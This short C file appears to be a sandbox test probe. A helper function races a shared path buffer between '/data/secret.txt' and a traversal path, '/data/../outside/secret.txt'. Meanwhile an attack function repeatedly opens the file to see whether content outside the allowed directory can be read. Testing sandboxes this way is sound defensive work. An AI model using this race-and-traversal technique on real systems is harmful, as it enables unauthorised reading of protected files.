#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include <string.h>
static volatile char path[64] = "/data/secret.txt";
long attack(void)
{
    for (int i = 0; i < 20000; i++) {
        char text[16] = {0};
        int file = open((char *)path, O_RDONLY);
        if (file < 0)
            continue;
        if (read(file, text, sizeof text - 1) > 0 && strncmp(text, "granted", 7))
            return 1;
        close(file);
    }
    return 0;
}
long helper(void)
{
    static const char *const other = "/data/../outside/secret.txt\0/data/out";
    strcpy((char *)path, other);
    strcpy((char *)path, other + 28);
    strcpy((char *)path, "/data/secret.txt");
    return 0;
}
